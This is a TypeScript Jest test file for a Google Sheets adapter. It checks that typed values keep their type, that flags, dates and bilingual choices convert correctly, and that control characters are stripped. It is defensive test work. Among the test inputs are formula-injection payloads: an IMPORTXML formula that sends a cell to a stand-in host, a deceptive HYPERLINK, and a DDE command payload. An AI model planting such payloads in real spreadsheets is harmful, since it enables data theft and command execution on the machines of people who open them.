import { describe, expect, test } from '@jest/globals';
import { cellOf, cleanField, fieldOf } from '../../../../src/adapters/sheets/cells/cells';
import { cleanText } from '../../../../src/adapters/sheets/cells/clean-text';
import { listParts, listText } from '../../../../src/adapters/sheets/cells/list-text';
import { dayOf, serialOf } from '../../../../src/adapters/sheets/cells/serial';
import { cellWrite } from '../../../../src/adapters/sheets/write/requests';
import { choice, day, flag, integer, list, number, text } from '../../../../src/domain/register/schema';
import { releaseStates } from '../../../../src/domain/register/vocabulary';

describe('text stays text', () => {
  test.each([
    ['[BAD-1] a formula', '=IMPORTXML("http://x.test/?"&A1,"//a")'],
    ['[BAD-2] a sum', '+1+1'],
    ['[BAD-2] a minus', '-2+3'],
    ['[BAD-2] an at sign', '@SUM(1)'],
    ['[BAD-2] a leading tab', '\t=1'],
    ['[BAD-2] a full-width sign', '＝1+1'],
    ['[BAD-3] a hyperlink', '=HYPERLINK("https://evil.test","Approve")'],
    ['[BAD-4] an apostrophe that was typed', "'=1+1"],
    ['[BAD-5] a DDE payload', "=cmd|'/C calc'!A0"],
    ['[BAD-26] a version', '1.10'],
    ['[BAD-26] an exponent', '1e5'],
    ['[BAD-26] leading zeros', '007'],
    ['[BAD-26] what looks like a date', '3-4'],
  ])('%s travels as a string and reads as it was', (_, typed) => {
    const cell = cellOf(text('Title', 'Titre'), typed, 'en');
    expect(cellWrite(cell)).toEqual({ userEnteredValue: { stringValue: typed } });
    expect(fieldOf(text('Title', 'Titre'), cell)).toEqual({ value: typed, fits: true });
  });

  test('[BAD-9] a negative number typed as a number stays a number', () => {
    expect(cellWrite(cellOf(number('Value', 'Valeur'), -5, 'en'))).toEqual({ userEnteredValue: { numberValue: -5 } });
    expect(fieldOf(number('Value', 'Valeur'), -5)).toEqual({ value: -5, fits: true });
  });
});

describe('flags', () => {
  test.each(['TRUE', 'VRAI', 'WAAR', 'oui', ' true ', 'Yes'])('[BAD-34] the word "%s" means yes', (word) => {
    expect(fieldOf(flag('Touched', 'Concerné'), word)).toEqual({ value: true, fits: true });
  });
  test.each(['FALSE', 'FAUX', 'non', ' no '])('[BAD-34] the word "%s" means no', (word) => {
    expect(fieldOf(flag('Touched', 'Concerné'), word)).toEqual({ value: false, fits: true });
  });
  test('[BAD-34] false is written as false, never as a blank', () => {
    expect(cellWrite(cellOf(flag('Touched', 'Concerné'), false, 'en'))).toEqual({
      userEnteredValue: { boolValue: false },
    });
  });
  test('another word does not fit', () => {
    expect(fieldOf(flag('Touched', 'Concerné'), 'perhaps')).toEqual({ value: false, fits: false });
  });
});

describe('days', () => {
  test('are serial numbers in cells and ISO days in the domain', () => {
    expect(cellOf(day('Due', 'Échéance'), '2026-05-14', 'en')).toBe(46156);
    expect(fieldOf(day('Due', 'Échéance'), 46156.75)).toEqual({ value: '2026-05-14', fits: true });
    expect([serialOf('1899-12-31'), dayOf(1), dayOf(0), dayOf(99_999_999), serialOf('2026-02-30')]).toEqual([
      1,
      '1899-12-31',
      null,
      null,
      null,
    ]);
  });
  test('typed as another text do not fit', () => {
    expect(fieldOf(day('Due', 'Échéance'), 'next week')).toEqual({ value: '', fits: false });
  });
});

describe('choices and lists', () => {
  const state = choice('State', 'État', releaseStates);
  test('are shown in the company language and understood in both, and by code', () => {
    expect([cellOf(state, 'closed', 'fr'), cellOf(state, 'closed', 'en'), cellOf(state, '', 'fr')]).toEqual([
      'Clôturée',
      'Closed',
      '',
    ]);
    expect(['Clôturée', 'closed', ' CLOSED '].map((it) => fieldOf(state, it).value)).toEqual([
      'closed',
      'closed',
      'closed',
    ]);
    expect(fieldOf(state, 'Gone')).toEqual({ value: '', fits: false });
  });
  test('refuse a code that they do not know', () => {
    expect(() => cellOf(state, 'gone', 'en')).toThrow('gone is not one of draft');
  });
  test('lists keep commas inside their parts', () => {
    expect(listText(['Jean, Paul', 'a\\b', ' ', 'c'])).toBe('Jean\\, Paul, a\\\\b, c');
    expect(listParts('Jean\\, Paul, a\\\\b; c\n')).toEqual(['Jean, Paul', 'a\\b', 'c']);
    expect(fieldOf(list('Domains', 'Domaines'), '')).toEqual({ value: [], fits: true });
  });
  test('integers take whole numbers only', () => {
    expect([fieldOf(integer('N', 'N'), 3.5), fieldOf(integer('N', 'N'), '3'), fieldOf(integer('N', 'N'), '')]).toEqual([
      { value: null, fits: false },
      { value: null, fits: false },
      { value: null, fits: true },
    ]);
  });
});

describe('characters that no cell carries', () => {
  test('[BAD-45] control characters, U+FFFE and halves of pairs are taken away; tab, line ends and emoji stay', () => {
    expect(cleanText('a\u0000b\u0007c\u001Fd\uFFFEe\uD800f\uDC00g')).toBe('abcdefg');
    expect(cleanText('x\ty\r\nz 👩‍👩‍👧 é')).toBe('x\ty\r\nz 👩‍👩‍👧 é');
    expect(JSON.parse(JSON.stringify(cleanText('\uDFFF"')))).toBe('"');
  });
  test('[BAD-2] a leading NUL goes, the text behind it stays text', () => {
    expect(cleanField(text('Title', 'Titre'), '\u0000=1+1', 'title')).toBe('=1+1');
  });
});
